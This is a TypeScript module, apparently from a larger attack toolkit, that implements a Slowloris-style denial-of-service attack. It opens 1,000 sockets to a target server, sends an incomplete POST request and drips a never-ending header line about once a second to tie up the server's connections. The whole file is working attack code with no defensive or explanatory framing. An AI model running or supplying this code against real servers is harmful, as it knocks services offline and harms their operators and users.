// 1,000 connections whose headers never end: a line per second.
import type { Attack } from '../attack';
import { float, inferPath } from '../networks';
import { drip, keepOpen, openSocket } from '../sockets';

export const attack: Attack = (target, tally) => (signal) =>
  keepOpen(
    () => {
      const socket = openSocket(target, target.port, tally);
      socket.write(`POST ${inferPath(float)} HTTP/1.1\r\nHost: ${target.host}\r\n`);
      drip(socket, 'X-More: of them\r\n', 1000);
      return socket;
    },
    { count: 1000, perSecond: 250 },
    signal,
  );
